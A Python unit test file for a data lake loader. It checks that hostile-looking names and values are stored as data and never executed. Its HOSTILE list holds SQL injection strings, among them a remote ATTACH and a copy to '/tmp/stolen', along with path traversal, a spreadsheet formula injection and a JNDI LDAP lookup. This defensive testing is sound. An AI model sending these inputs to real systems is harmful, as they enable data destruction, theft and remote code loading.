"""Names and values that would be statements of SQL, paths or formulas are data."""

from typing import Any

import pytest

from lambdas.outcome import Outcome
from tests.unit.lake.in_process_lake import InProcessLake, age, array, bag

HOSTILE = [
    "x'; DROP TABLE opens; --",
    "x\" FROM opens; ATTACH 'https://example.com/x.db' AS y; --",
    "x) TO '/tmp/stolen' (FORMAT csv); --",
    "../../curated/opens",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://example.com}",
    "\\'; SELECT 1; --",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_and_a_value_that_would_be_a_statement_are_stored_as_they_are(lake: InProcessLake, text: str) -> None:
    records: list[dict[str, Any]] = [
        {"eventId": number, "contactId": text, "timestamp": f"2024-03-01T10:0{number}:00Z", text: text}
        for number in range(3)
    ]
    assert lake.load(array(records), at=age(1)).outcome == Outcome.LOADED
    assert bag(lake.records()) == bag(records)
    assert [key for key in lake.objects("") if "opens" not in key and "raw/" not in key] == []


def test_a_hostile_day_is_no_part_of_a_path(lake: InProcessLake) -> None:
    records = [{"eventId": 1, "timestamp": "../../raw/2024-03-01"}, {"eventId": 2, "timestamp": "2024-03-01T10:00:00Z"}]
    assert lake.load(array(records), at=age(1)).outcome == Outcome.LOADED
    assert set(lake.partitions()) == {"2024-03-01", "unknown"}
    assert "../../raw/2024-03-01" in str(lake.rows())
